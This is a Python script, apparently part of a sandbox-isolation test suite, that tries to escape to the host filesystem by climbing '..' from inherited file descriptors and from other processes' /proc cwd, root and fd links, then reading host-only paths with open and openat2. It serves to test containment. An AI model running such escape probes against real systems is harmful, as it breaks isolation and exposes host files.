"""Walk '..' with openat/openat2 from every inherited or reachable file descriptor to reach the host filesystem."""
import ctypes
import errno
import os
import sys

from _attack import ESCAPES, NOTES, en, finish, host_only_paths, libc, sysc  # noqa: F401

import struct  # noqa: E402

SYS_openat2 = 437


def main():
    paths = host_only_paths()
    secret = os.environ.get("FB_HOST_SECRET", "").encode()
    if not paths:
        print("ERROR: no host-only paths known")
        sys.exit(2)
    inherited = sorted(int(x) for x in os.listdir("/proc/self/fd"))
    kinds = {}
    for fd in inherited:
        try:
            target = os.readlink("/proc/self/fd/%d" % fd)
        except OSError:
            continue
        kinds[fd] = target
        # a leaked fd naming a host path that does not exist in here
        if target.startswith("/") and not target.startswith(("/proc", "/dev")):
            try:
                os.stat(target)
            except OSError:
                try:
                    st = os.fstat(fd)
                    ESCAPES.append("inherited fd %d refers to host path %s (mode %o)" % (fd, target, st.st_mode))
                except OSError:
                    pass
    NOTES.append("inherited fds: %s" % ", ".join("%d=%s" % kv for kv in sorted(kinds.items()) if kv[0] != inherited[-1]))
    # candidate starting points: inherited fds and directories other processes hold
    starts = []
    for fd in inherited:
        starts.append((fd, "inherited fd %d" % fd))
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        for link in ("cwd", "root"):
            try:
                starts.append((os.open("/proc/%s/%s" % (pid, link), os.O_PATH | os.O_DIRECTORY), "%s of pid %s" % (link, pid)))
            except OSError as e:
                if len(NOTES) < 10:
                    NOTES.append("/proc/%s/%s: %s" % (pid, link, en(e.errno)))
        try:
            names = os.listdir("/proc/%s/fd" % pid)
        except OSError:
            continue
        for n in names:
            try:
                fd = os.open("/proc/%s/fd/%s" % (pid, n), os.O_PATH)
            except OSError:
                continue
            starts.append((fd, "fd %s of pid %s" % (n, pid)))
    reached = 0
    for fd, how in starts:
        cur = fd
        try:
            for _ in range(64):
                cur = os.open("..", os.O_PATH | os.O_DIRECTORY, dir_fd=cur)
        except OSError as e:
            if e.errno != errno.ENOTDIR and len(NOTES) < 10:
                NOTES.append("%s: '..' fails with %s" % (how, en(e.errno)))
            continue
        reached += 1
        for p in paths:
            for flags in (os.O_RDONLY, os.O_PATH):
                try:
                    t = os.open(p.lstrip("/"), flags, dir_fd=cur)
                except OSError:
                    continue
                data = b""
                try:
                    data = os.read(t, 4096)
                except OSError:
                    pass
                os.close(t)
                if secret and secret in data:
                    ESCAPES.append("read host marker secret climbing from %s" % how)
                else:
                    ESCAPES.append("host-only path %s reachable climbing from %s" % (p, how))
                break
        # openat2 without RESOLVE_ flags, from the climbed fd
        how2 = struct.pack("QQQ", os.O_RDONLY, 0, 0)
        buf = ctypes.create_string_buffer(how2)
        for p in paths:
            r, e = sysc(SYS_openat2, cur, ctypes.c_char_p(p.lstrip("/").encode()), buf, len(how2))
            if r >= 0:
                ESCAPES.append("openat2 reached host-only %s from %s" % (p, how))
                os.close(r)
    NOTES.append("climbed '..' 64 times from %d directory fds (of %d fds): every climb stops at the sandbox root"
                 % (reached, len(starts)))


if __name__ == "__main__":
    finish(main)
